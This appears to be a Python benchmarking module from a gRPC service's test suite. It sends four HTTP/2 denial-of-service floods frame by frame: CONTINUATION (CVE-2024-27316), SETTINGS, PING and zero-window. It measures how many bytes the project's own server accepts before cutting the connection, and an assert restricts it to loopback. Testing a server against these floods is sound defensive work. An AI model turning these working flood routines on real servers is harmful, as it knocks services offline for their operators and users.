"""HTTP/2 floods of the 2023–2024 advisories, sent frame by frame to a gRPC port on
127.0.0.1, each bounded in bytes: what a flood's sender counts is how many bytes went
out before the server cut the connection (or the budget ran out), and whether it said
why (a GOAWAY). The sender reads the server's frames as it goes, so a cut is seen once
it comes; its send buffer is small, so it cannot run far ahead of what the server read.

- CONTINUATION flood (CVE-2024-27316 and its kin): HEADERS without END_HEADERS, then
  CONTINUATION frames of header fields that never end.
- SETTINGS flood: SETTINGS frames, each to be acknowledged, their ACKs never read.
- PING flood beside a call in flight (a ping flood without one, grpcio cuts itself).
- Zero window: SETTINGS_INITIAL_WINDOW_SIZE 0, then calls whose answers the server must
  hold, since the client grants no window to send them in.

Used by tests/hostile/test_http2_floods.py, by the attack bench (attacks.py), and to
measure a server by hand: `python -m service.bench.floods HOST:PORT` (docs/SECURITY.md).
A flood may come from another loopback address (`source`: another client)."""

from __future__ import annotations

import select
import socket
import struct
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

from service.bench.h2 import (
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PING,
    PREFACE,
    SETTINGS,
    frame,
    grpc_request_headers,
    literal_headers,
)

CONTINUATION = 0x9
INITIAL_WINDOW_SIZE = 0x4  # a SETTINGS parameter
SEND_BUFFER = 16 * 1024  # the flooder's socket send buffer: it runs little ahead of the server
DEFAULT_BUDGET = 64 * 1024 * 1024
STREAM_EVENTS = "/ludotheque.v1.GameService/StreamEvents"
GET_GAME = "/ludotheque.v1.GameService/GetGame"


@dataclass
class Outcome:
    """What a flood achieved: bytes sent before the cut, and the server's GOAWAYs."""

    sent: int = 0
    closed: bool = False  # the server closed the connection (or reset it)
    goaways: list[tuple[int, bytes]] = field(default_factory=list)  # (error code, debug data)
    frames: int = 0  # frames received from the server

    @property
    def cut(self) -> bool:
        return self.closed or bool(self.goaways)


class Flooder:
    """One connection sending a flood, reading the server's frames between its writes."""

    def __init__(self, target: str, timeout: float = 10.0, source: str = "") -> None:
        host, _, port = target.rpartition(":")
        assert host in ("127.0.0.1", "localhost"), "floods go to the loopback only"
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, SEND_BUFFER)
        self.socket.settimeout(timeout)
        if source:
            self.socket.bind((source, 0))
        self.socket.connect((host, int(port)))
        self.authority = target
        self.outcome = Outcome()
        self._buffer = b""

    def send(self, data: bytes) -> bool:
        """Sends `data` (counted); False once the server has cut the connection."""
        if self.outcome.cut:
            return False
        try:
            self.socket.sendall(data)
        except OSError:
            self.outcome.closed = True
            return False
        self.outcome.sent += len(data)
        self.read_ready()
        return not self.outcome.cut

    def read_ready(self, wait: float = 0.0) -> None:
        """Reads what the server sent (waiting up to `wait` seconds for something)."""
        while True:
            ready, _, _ = select.select([self.socket], [], [], wait)
            if not ready:
                return
            try:
                chunk = self.socket.recv(65536)
            except OSError:
                chunk = b""
            if not chunk:
                self.outcome.closed = True
                return
            self._buffer += chunk
            self._frames()
            wait = 0.0

    def _frames(self) -> None:
        while len(self._buffer) >= 9:
            length = int.from_bytes(self._buffer[:3], "big")
            if len(self._buffer) < 9 + length:
                return
            kind, payload = self._buffer[3], self._buffer[9 : 9 + length]
            self._buffer = self._buffer[9 + length :]
            self.outcome.frames += 1
            if kind == GOAWAY:
                self.outcome.goaways.append((struct.unpack(">I", payload[4:8])[0], payload[8:]))

    def finish(self, seconds: float = 5.0) -> Outcome:
        """Waits (up to `seconds`) for the server's last word, then closes."""
        deadline_reads = int(seconds / 0.1)
        for _ in range(deadline_reads):
            if self.outcome.closed:
                break
            self.read_ready(0.1)
        self.socket.close()
        return self.outcome


def flood(
    target: str, opening: bytes, frames: Iterator[bytes], budget: int, chunk: int = 64 * 1024, source: str = ""
) -> Outcome:
    """Sends the preface and `opening`, then `frames` in chunks until the server cuts the
    connection or `budget` bytes went out."""
    flooder = Flooder(target, source=source)
    flooder.send(PREFACE + frame(SETTINGS, 0, 0) + opening)
    batch = bytearray()
    for data in frames:
        batch += data
        if len(batch) >= chunk:
            if not flooder.send(bytes(batch)) or flooder.outcome.sent >= budget:
                break
            batch.clear()
    return flooder.finish()


def continuation_flood(target: str, budget: int = DEFAULT_BUDGET, source: str = "") -> Outcome:
    """HEADERS opening a call without END_HEADERS, then CONTINUATION frames of 16 KiB of
    header fields each, for ever."""
    fields = literal_headers([(f"x-flood-{n}", "v" * 1000) for n in range(16)])

    def continuations() -> Iterator[bytes]:
        while True:
            yield frame(CONTINUATION, 0, 1, fields)

    opening = frame(HEADERS, 0, 1, grpc_request_headers(GET_GAME, target))
    return flood(target, opening, continuations(), budget, source=source)


def settings_flood(target: str, budget: int = DEFAULT_BUDGET, source: str = "") -> Outcome:
    """SETTINGS frames (each changing a setting, each to be acknowledged); the ACKs
    the server writes back are never read past what the sender's select sees."""
    one = frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 65535))

    def settings() -> Iterator[bytes]:
        while True:
            yield one

    return flood(target, b"", settings(), budget, source=source)


def a_call_in_flight(target: str, game_id: str) -> bytes:
    """HEADERS and DATA of a StreamEvents call that stays open (it follows the game)."""
    request = b"\n" + bytes([len(game_id)]) + game_id.encode()  # StreamEventsRequest.game_id
    message = b"\0" + struct.pack(">I", len(request)) + request
    return frame(HEADERS, END_HEADERS, 1, grpc_request_headers(STREAM_EVENTS, target)) + frame(
        DATA, END_STREAM, 1, message
    )


def ping_flood(target: str, game_id: str, budget: int = DEFAULT_BUDGET, source: str = "") -> Outcome:
    """PINGs (each to be answered) beside a call in flight, which grpcio's own ping
    strikes do not count."""

    def pings() -> Iterator[bytes]:
        number = 0
        while True:
            number += 1
            yield frame(PING, 0, 0, number.to_bytes(8, "big"))

    return flood(target, a_call_in_flight(target, game_id), pings(), budget, source=source)


def zero_window(target: str, game_id: str, streams: int = 2_000, source: str = "") -> Outcome:
    """SETTINGS_INITIAL_WINDOW_SIZE 0 (the server may send no DATA on a stream until
    the client grants it), then GetGame calls that each leave an answer for the server
    to hold."""
    request = b"\n" + bytes([len(game_id)]) + game_id.encode()  # GetGameRequest.game_id
    message = b"\0" + struct.pack(">I", len(request)) + request
    block = grpc_request_headers(GET_GAME, target)

    def calls() -> Iterator[bytes]:
        for number in range(streams):
            stream = 2 * number + 1
            yield frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, message)

    opening = frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
    return flood(target, opening, calls(), budget=DEFAULT_BUDGET, chunk=4 * 1024, source=source)


def main(argv: list[str]) -> None:
    """Sends each flood to a gRPC port on 127.0.0.1 (a game id for the ones that need a
    call) and prints what each achieved."""
    target, game_id = argv[0], argv[1] if len(argv) > 1 else "nosuchgame"
    budget = int(argv[2]) if len(argv) > 2 else DEFAULT_BUDGET
    runs: dict[str, Callable[[], Outcome]] = {
        "CONTINUATION flood": lambda: continuation_flood(target, budget),
        "SETTINGS flood": lambda: settings_flood(target, budget),
        "PING flood beside a call": lambda: ping_flood(target, game_id, budget),
        "zero window": lambda: zero_window(target, game_id),
    }
    for name, run in runs.items():
        outcome = run()
        print(f"{name}: {outcome.sent:,} bytes sent; cut: {outcome.cut}; GOAWAY: {outcome.goaways}")


if __name__ == "__main__":
    main(sys.argv[1:])
